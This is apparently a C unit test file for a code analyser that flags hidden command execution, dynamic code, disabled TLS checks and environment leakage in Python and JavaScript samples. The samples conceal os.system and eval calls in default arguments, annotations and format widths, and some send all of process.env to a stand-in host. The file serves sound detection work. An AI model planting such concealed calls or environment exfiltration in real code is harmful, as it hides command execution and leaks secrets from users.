/* SPDX-License-Identifier: Apache-2.0
 *
 * behavior_corner_test.c - code where few look for it: defaults, patterns, annotations, widths.
 */
#include "behavior_case.h"

static const struct behavior_case python[] = {
    /* what runs where a function is defined */
    { "import os\ndef f(a=os.system('id')):\n    pass\n", "capability process os.system id import",
      NULL },
    { "import os\ndef f(a=os.system('id')):\n    pass\nf(1)\n",
      "capability process os.system id import", NULL },
    { "import os\nf = lambda a=os.system('id'): a\n", "capability process os.system id import",
      NULL },
    { "import os\ndef f(a: os.system('id')):\n    pass\n", "capability process os.system id import",
      NULL },
    { "import os\ndef f(*, a: os.system('id') = 1) -> int:\n    pass\n",
      "capability process os.system id import", NULL },
    { "import os\ndef f() -> os.system('id'):\n    pass\n",
      "capability process os.system id import", NULL },
    { "import os\nclass C:\n    a: os.system('id')\n    b: os.system('ls') = 1\n",
      "capability process os.system id import\ncapability process os.system ls import", NULL },
    { "import os\na: os.system('id') = 1\n", "capability process os.system id import", NULL },
    { "import os\ndef f(a):\n    os.system(a)\n", "capability process os.system call", "import" },
    /* the width of what is shown */
    { "import os\nf'{1:{os.system(\"id\")}}'\n", "capability process os.system id import", NULL },
    { "f'{1:{width}} {2:>{most(3)}.4}'\n", "", "capability" },
    /* a member by a name that is not known */
    { "import operator, os\ndef f(m):\n    operator.attrgetter(m['k'])(os)(m['v'])\n",
      "capability hidden-name os", NULL },
    { "import operator\ndef f(m, rows):\n    rows.sort(key=operator.attrgetter(m['k']))\n", "",
      "hidden-name" },
    /* whether TLS is checked */
    { "import os\ns.verify = here('own.pem') if os.environ.get('OWN') else True\n", "",
      "safeguard tls" },
    { "import os\ns.verify = os.environ.get('OWN') if mode else True\n", "safeguard tls verify",
      NULL },
    { "import os\ns.verify = False if os.environ.get('OWN') else True\n", "safeguard tls verify",
      NULL },
    { "import os\ns.verify = 0 if os.environ.get('OWN') else True\n", "safeguard tls verify",
      NULL },
};

static const struct behavior_case script[] = {
    { "const { a = eval(x) } = c;", "capability dynamic-code eval import", NULL },
    { "const [a = eval(x)] = c;", "capability dynamic-code eval import", NULL },
    { "const { a: b = eval(x) } = c;", "capability dynamic-code eval import", NULL },
    { "({ a = eval(x) } = c);", "capability dynamic-code eval import", NULL },
    { "for (const { a = eval(x) } of c) b();", "capability dynamic-code eval import", NULL },
    { "function f({ a = eval(x) } = {}) {}", "capability dynamic-code eval call", NULL },
    { "function f({ a: { b = eval(x) } }) {}", "capability dynamic-code eval call", NULL },
    { "const f = ([a = eval(x)]) => a;", "capability dynamic-code eval call", NULL },
    { "function f(a = eval(x)) {}\nf(undefined);", "capability dynamic-code eval import", NULL },
    { "try { f(); } catch ({ a = eval(x) }) {}", "capability dynamic-code eval import", NULL },
    /* a default is what the name has where nothing else is given, and only there */
    { "const { a = require('child_process') } = c;\na.execSync('id');",
      "capability process child_process execSync id", NULL },
    { "const { a = 1 } = { a: require('child_process') };\na.execSync('id');",
      "capability process child_process execSync id", NULL },
    /* which module is loaded, the environment decides */
    { "const a = require(process.env.A || './a.json');", "capability dynamic-import require",
      NULL },
    { "const a = require('./a.json');", "", "dynamic-import" },
    /* the whole environment in an object of somebody else */
    { "function f(o) { o.env = process.env; }", "capability env-all", NULL },
    { "function f() { const o = {}; o.env = process.env; return o.env.A; }", "", "env-all" },
    /* a program has the environment anyway; another receiver has not */
    { "const { spawn } = require('child_process');\n"
      "exports.f = (m) => spawn('ls', [], { env: { ...process.env, ...m } });",
      "capability process child_process.spawn", "flow env-all" },
    { "const { spawn } = require('child_process');\n"
      "exports.f = () => spawn('ls', [], { cwd: '/', env: Object.assign({}, process.env) });",
      "capability process child_process.spawn", "flow env-all" },
    { "exports.f = () => fetch('https://a.example', { body: JSON.stringify({ env: "
      "{ ...process.env } }) });",
      "flow env-all network", NULL },
    { "const o = { env: { ...process.env } };\nfetch('https://a.example', { body: "
      "JSON.stringify(o) });",
      "flow env-all network", NULL },
};

static void test_python(void **state)
{
    (void)state;
    check_cases(LW_LANG_PYTHON, python, LW_COUNT(python));
}

static void test_script(void **state)
{
    (void)state;
    check_cases(LW_LANG_JAVASCRIPT, script, LW_COUNT(script));
}

int main(void)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(test_python),
                                        cmocka_unit_test(test_script) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
